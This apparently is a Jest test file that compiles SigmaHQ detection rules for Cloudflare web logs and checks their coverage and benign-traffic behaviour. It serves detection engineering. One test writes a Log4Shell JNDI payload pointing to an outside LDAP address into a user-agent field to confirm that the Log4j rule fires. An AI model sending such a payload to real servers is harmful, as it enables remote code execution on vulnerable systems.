import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { builtInRegistry } from '../../lib/record/registry';
import { builtInRules } from '../../lib/rules/builtin';
import { RuleSet } from '../../lib/rules/engine';
import type { RuleEvent } from '../../lib/rules/model';
import { CATEGORIES } from '../../lib/sigma/fields';
import { compileSigmaDir } from '../../lib/sigma/load';
import { generateLines } from '../../testkit/generate';
import { enrich, parseLine } from '../../testkit/reference';
import { candidateRows } from '../../testkit/sigma-rows';

/**
 * SigmaHQ's webserver, proxy, dns and firewall rules (../shared/corpus-sigma, third-party, read here at run time and
 * never copied into the project) through the compiler: at least 90% compile for a Cloudflare dataset; every compiled
 * webserver rule fires on a row built from its own selections; and benign generated http_requests traffic fires
 * only the few rules listed in BENIGN_FIRES (docs/sigma.md, "Benign traffic").
 */
const CORPUS = join(__dirname, '..', '..', '..', 'shared', 'corpus-sigma', 'rules');
const present = existsSync(CORPUS);
const d = present ? describe : describe.skip;

/**
 * Rules that may fire on the generator's benign http_requests traffic (2,000 lines, seed 7), at most this often:
 * none today (docs/sigma.md, "Benign traffic"). A rule that starts firing there must be listed here, with a reason.
 */
const BENIGN_FIRES: Record<string, number> = {};

d('the SigmaHQ corpus', () => {
  const out = present ? compileSigmaDir(CORPUS) : { compiled: [], refused: [] };
  const total = out.compiled.length + out.refused.length;

  it('reads all 155 rules and compiles at least 90% of them for a Cloudflare dataset', () => {
    const byCategory: Record<string, string> = {};
    for (const cat of Object.keys(CATEGORIES)) {
      const n = out.compiled.filter((c) => c.category === cat).length;
      const r = out.refused.filter((c) => c.category === cat).length;
      byCategory[cat] = `${n} of ${n + r}`;
    }
    const refused = out.refused.map((r) => `  ${r.file}: ${r.reason}`).join('\n');
    console.log(`Sigma corpus: ${out.compiled.length} of ${total} compiled ${JSON.stringify(byCategory)}\nrefused:\n${refused}`);
    expect(total).toBe(155);
    expect(out.compiled.length / total).toBeGreaterThanOrEqual(0.9);
    // Every refusal says why.
    for (const r of out.refused) expect(r.reason.length).toBeGreaterThan(10);
  });

  it('the compiled rules form a rule set with the built-in rules (ids unique, log types known)', () => {
    const set = new RuleSet([...builtInRules(), ...out.compiled.map((c) => c.rule)], { knownLogTypes: builtInRegistry().logTypes(), trusted: builtInRules() });
    expect(set.rules.length).toBe(builtInRules().length + out.compiled.length);
    for (const c of out.compiled) {
      expect(c.rule.description).toContain(c.meta.author ?? 'an unnamed author');
      expect(c.rule.description).toContain('Detection Rule License (DRL) 1.1');
    }
  });

  const web = out.compiled.filter((c) => c.category === 'webserver');
  it.each(web.map((c) => [c.meta.file, c] as const))('%s fires on a row built from its selections', (_f, c) => {
    const rows = candidateRows(c);
    expect(rows.length).toBeGreaterThan(0);
    expect([c.meta.file, rows.some((r) => c.rule.rule(r))]).toEqual([c.meta.file, true]);
  });

  it('benign generated http_requests traffic fires only the documented few', () => {
    const entry = builtInRegistry().find('http_requests');
    if (!entry) throw new Error('no http_requests log type');
    const rows: RuleEvent[] = [];
    let n = 0;
    for (const line of generateLines({ dataset: 'http_requests', lines: 2000, seed: 7, timestampFormat: 'unixnano' })) {
      const p = parseLine(entry, line);
      if (!p.ok) throw new Error(`generated line rejected: ${JSON.stringify(p.reject)}`);
      const e = enrich(entry.plan, p.value, ++n, { rowIdPrefix: 'benign', parseTime: '2026-11-01 10:00:00.000000000' });
      rows.push(JSON.parse(e.json) as RuleEvent);
    }
    expect(rows).toHaveLength(2000);
    const fired: Record<string, number> = {};
    for (const c of web) {
      const k = rows.filter((r) => c.rule.rule(r)).length;
      if (k > 0) fired[`${c.rule.id} ${c.meta.title}`] = k;
    }
    console.log(`Sigma webserver rules firing on 2,000 benign http_requests rows: ${JSON.stringify(fired, null, 1)}`);
    // The rows are shaped as the rules expect: one of them with a Log4Shell probe in its user agent fires the
    // corpus's Log4Shell keyword rule.
    const probe = { ...(rows[0] as RuleEvent), ClientRequestUserAgent: '${jndi:ldap://203.0.113.9/a}' } as RuleEvent;
    expect(web.filter((c) => c.rule.rule(probe)).map((c) => c.meta.file)).toContain('rules-emerging-threats/2021/Exploits/CVE-2021-44228/web_cve_2021_44228_log4j.yml');
    for (const [rule, k] of Object.entries(fired)) {
      const id = rule.split(' ')[0] as string;
      expect([rule, k <= (BENIGN_FIRES[id] ?? 0)]).toEqual([rule, true]);
    }
  });
});
